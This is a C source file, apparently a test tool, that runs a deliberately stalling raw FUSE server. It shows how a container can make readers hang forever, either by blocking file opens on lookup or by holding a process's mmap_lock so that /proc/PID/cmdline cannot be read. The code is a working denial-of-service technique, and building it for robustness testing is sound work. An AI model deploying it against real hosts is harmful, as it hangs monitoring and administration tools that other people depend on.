/*
 * stall cmdline|files FUSE-FD DIR [UID]: what a container can do to make a reader wait for ever.
 *
 * Both mount a file system of their own on DIR, from an already open /dev/fuse, and serve it badly. They print "ready"
 * and stay; their death ends the connection and every wait. Raw FUSE protocol (linux/fuse.h), so that no library is
 * needed and it runs in any root.
 *
 *   files    the first look-up of a name below DIR is never answered. Whoever opens DIR/NAME waits in open(2): neither
 *            O_NONBLOCK nor O_PATH helps, and once the server took the request no signal does either.
 *            With UID it is a file system that this user serves, for everybody (allow_other).
 *   cmdline  holds its own mmap_lock for ever, so that /proc/PID/cmdline (and environ, maps) cannot be read: the file
 *            is mapped and made dirty, then opened with FOPEN_DIRECT_IO and mapped again; that mmap(2) must first write
 *            the dirty page back, and WRITE is never answered. Mapping a stalled file over the arguments themselves,
 *            CVE-2018-1120, fails since Linux 4.17, which reads nothing but anonymous memory there.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <unistd.h>

#define PAGE	  4096
#define FILE_NODE 2
/* KEEP_CACHE: else open(2) itself would write the page back */
#define SECOND_OPEN (FOPEN_DIRECT_IO | FOPEN_KEEP_CACHE)

/* What the server knows; one connection. */
struct server {
	int fuse;
	bool stall_lookup;
	unsigned opened;
};

static int fail(const char *what)
{
	fprintf(stderr, "stall: %s: %s\n", what, strerror(errno));
	return 1;
}

/* ---- the server --------------------------------------------------------------------------------- */

static void answer(const struct server *s, const struct fuse_in_header *in, int error,
		   const void *body, size_t len)
{
	struct fuse_out_header head = { (uint32_t)(sizeof(head) + len), error, in->unique };
	struct iovec iov[2] = { { &head, sizeof(head) }, { (void *)(uintptr_t)body, len } };

	if (writev(s->fuse, iov, len ? 2 : 1) < 0 && errno != ENOENT)
		_exit(fail("answer"));
}

static struct fuse_attr attr_of(uint64_t node)
{
	return (struct fuse_attr){
		.ino = node,
		.size = node == FILE_NODE ? PAGE : 0,
		.mode = node == FILE_NODE ? S_IFREG | 0644 : S_IFDIR | 0755,
		.nlink = 1,
	};
}

static void answer_init(const struct server *s, const struct fuse_in_header *in,
			const struct fuse_init_in *init)
{
	struct fuse_init_out out = {
		.major = FUSE_KERNEL_VERSION,
		.minor = init->minor,
		.max_write = PAGE,
	};

	answer(s, in, 0, &out, sizeof(out));
}

static void answer_lookup(const struct server *s, const struct fuse_in_header *in)
{
	struct fuse_entry_out entry = { .nodeid = FILE_NODE,
					.attr_valid = 3600,
					.entry_valid = 3600 };

	entry.attr = attr_of(FILE_NODE);
	if (!s->stall_lookup)
		answer(s, in, 0, &entry, sizeof(entry));
}

static void answer_getattr(const struct server *s, const struct fuse_in_header *in)
{
	struct fuse_attr_out out = { .attr_valid = 3600 };

	out.attr = attr_of(in->nodeid);
	answer(s, in, 0, &out, sizeof(out));
}

static void answer_open(struct server *s, const struct fuse_in_header *in)
{
	struct fuse_open_out out = { .fh = 1, .open_flags = s->opened++ ? SECOND_OPEN : 0 };

	answer(s, in, 0, &out, sizeof(out));
}

static void serve_one(struct server *s, const struct fuse_in_header *in, const void *body)
{
	static const char zeros[PAGE];

	switch (in->opcode) {
	case FUSE_INIT: answer_init(s, in, body); break;
	case FUSE_LOOKUP: answer_lookup(s, in); break;
	case FUSE_GETATTR: answer_getattr(s, in); break;
	case FUSE_OPEN: answer_open(s, in); break;
	case FUSE_READ: answer(s, in, 0, zeros, sizeof(zeros)); break;
	case FUSE_WRITE: break; /* never */
	case FUSE_FORGET:
	case FUSE_BATCH_FORGET:
	case FUSE_INTERRUPT: break; /* have no answer */
	case FUSE_FLUSH:
	case FUSE_RELEASE:
	case FUSE_ACCESS: answer(s, in, 0, NULL, 0); break;
	default: answer(s, in, -ENOSYS, NULL, 0); break;
	}
}

static int serve(struct server *s)
{
	static char request[FUSE_MIN_READ_BUFFER + 65536]
		__attribute__((aligned(__alignof__(struct fuse_in_header))));

	for (;;) {
		ssize_t n = read(s->fuse, request, sizeof(request));

		if (n < 0 && (errno == EINTR || errno == EAGAIN || errno == ENOENT))
			continue;
		if (n < (ssize_t)sizeof(struct fuse_in_header))
			return n < 0 && errno == ENODEV ? 0 : fail("read request");
		serve_one(s, (struct fuse_in_header *)request,
			  request + sizeof(struct fuse_in_header));
	}
}

/* ---- the processes ------------------------------------------------------------------------------ */

static int mount_own(int fuse, const char *dir, const char *uid)
{
	char options[128];

	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=%s,group_id=0%s", fuse,
		 uid ? uid : "0", uid ? ",allow_other" : "");
	return mount("stall", dir, "fuse", MS_NOSUID | MS_NODEV, options);
}

static int open_file(const char *dir)
{
	char path[256];

	snprintf(path, sizeof(path), "%s/file", dir);
	return open(path, O_RDWR | O_CLOEXEC);
}

/* Does not return while the server lives. */
static int hold_mmap_lock(const char *dir)
{
	int fd = open_file(dir), direct;
	char *page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);

	if (fd < 0 || page == MAP_FAILED)
		return fail("map");
	page[0] = 1;
	direct = open_file(dir);
	if (direct < 0 || write(1, "ready\n", 6) < 0)
		return fail("open again");
	if (mmap(NULL, PAGE, PROT_READ, MAP_PRIVATE, direct, 0) == MAP_FAILED)
		return fail("map again");
	return 0;
}

/* The victim is a child: the caller keeps the pid of the server, whose death frees it. */
static int stall_cmdline(struct server *s, const char *dir)
{
	pid_t child = fork();

	if (child == 0) {
		close(s->fuse);
		prctl(PR_SET_NAME, "stalled");
		_exit(hold_mmap_lock(dir));
	}
	return child < 0 ? fail("fork") : serve(s);
}

int main(int argc, char **argv)
{
	struct server s = { 0 };

	if (argc < 4 || argc > 5 ||
	    (strcmp(argv[1], "cmdline") != 0 && strcmp(argv[1], "files") != 0)) {
		fprintf(stderr, "usage: stall cmdline|files FUSE-FD DIR [UID]\n");
		return 1;
	}
	s.fuse = (int)strtol(argv[2], NULL, 10);
	s.stall_lookup = strcmp(argv[1], "files") == 0;
	fcntl(s.fuse, F_SETFD, FD_CLOEXEC);
	if (mount_own(s.fuse, argv[3], argc == 5 ? argv[4] : NULL) < 0)
		return fail("mount");
	if (!s.stall_lookup)
		return stall_cmdline(&s, argv[3]);
	return write(1, "ready\n", 6) < 0 ? fail("write") : serve(&s);
}
